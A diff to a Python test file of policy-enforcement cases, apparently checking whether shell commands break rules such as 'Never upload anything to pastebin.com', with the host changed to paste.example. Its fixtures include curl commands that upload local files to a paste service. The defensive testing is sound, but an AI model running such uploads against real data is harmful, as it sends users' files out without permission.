@@ -96,14 +96,14 @@ CASES: Final = (
         ),
     ),
     Case(
-        "Never upload anything to pastebin.com.",
-        ("curl -F file=@notes.txt https://pastebin.com/api", "curl -X POST -d @a.txt https://pastebin.com/api"),
+        "Never upload anything to paste.example.",
+        ("curl -F file=@notes.txt https://paste.example/api", "curl -X POST -d @a.txt https://paste.example/api"),
         (
             "curl -F file=@notes.txt https://files.acme.example/api",
-            "curl -X POST -d @a.txt https://notpastebin.com/api",
-            "curl -X POST -d @a.txt https://pastebin.com.acme.example/api",
+            "curl -X POST -d @a.txt https://notpaste.example/api",
+            "curl -X POST -d @a.txt https://paste.example.acme.example/api",
         ),
-        hosts=("https://pastebin.com/api",),
+        hosts=("https://paste.example/api",),
     ),
     Case(
         "Never use sudo.",
